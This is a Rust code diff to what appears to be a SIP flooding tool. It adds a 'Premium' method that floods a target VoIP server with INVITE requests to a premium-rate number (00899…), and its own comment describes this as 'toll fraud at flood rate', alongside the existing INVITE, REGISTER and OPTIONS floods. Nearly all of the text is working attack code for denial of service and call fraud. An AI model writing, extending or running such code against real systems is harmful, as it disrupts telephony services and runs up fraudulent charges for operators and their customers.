@@ -44,6 +44,9 @@ pub enum FloodMethod {
     Invite,
     Register,
     Options,
+    /// An INVITE to a premium-rate number (00899…, SPEC §11): toll fraud
+    /// at flood rate.
+    Premium,
 }
 
 impl FloodMethod {
@@ -52,7 +55,8 @@ impl FloodMethod {
             "INVITE" => FloodMethod::Invite,
             "REGISTER" => FloodMethod::Register,
             "OPTIONS" => FloodMethod::Options,
-            _ => bail!("unknown method {s:?} (INVITE, REGISTER or OPTIONS)"),
+            "PREMIUM" => FloodMethod::Premium,
+            _ => bail!("unknown method {s:?} (INVITE, REGISTER, OPTIONS or PREMIUM)"),
         })
     }
 
@@ -61,6 +65,15 @@ impl FloodMethod {
             FloodMethod::Invite => "INVITE",
             FloodMethod::Register => "REGISTER",
             FloodMethod::Options => "OPTIONS",
+            FloodMethod::Premium => "PREMIUM",
+        }
+    }
+
+    /// The request line's method.
+    pub fn sip_name(self) -> &'static str {
+        match self {
+            FloodMethod::Premium => "INVITE",
+            m => m.as_str(),
         }
     }
 }
@@ -319,14 +332,20 @@ pub fn sip_payload_to(method: FloodMethod, sport: u16, dst: SocketAddr, ua: &str
             String::new(),
         ),
         FloodMethod::Options => (format!("sip:{dip}"), format!("<sip:{dip}>"), String::new(), String::new()),
+        FloodMethod::Premium => (
+            format!("sip:00899123456@{dip}"),
+            format!("<sip:00899123456@{dip}>"),
+            String::new(),
+            String::new(),
+        ),
     };
-    let name = method.as_str();
+    let name = method.sip_name();
     let from_user = if method == FloodMethod::Register {
         "1000"
     } else {
         "caller"
     };
-    let contact = if method == FloodMethod::Invite {
+    let contact = if matches!(method, FloodMethod::Invite | FloodMethod::Premium) {
         format!("Contact: <sip:caller@{h}:{sport}>\r\n")
     } else {
         String::new()
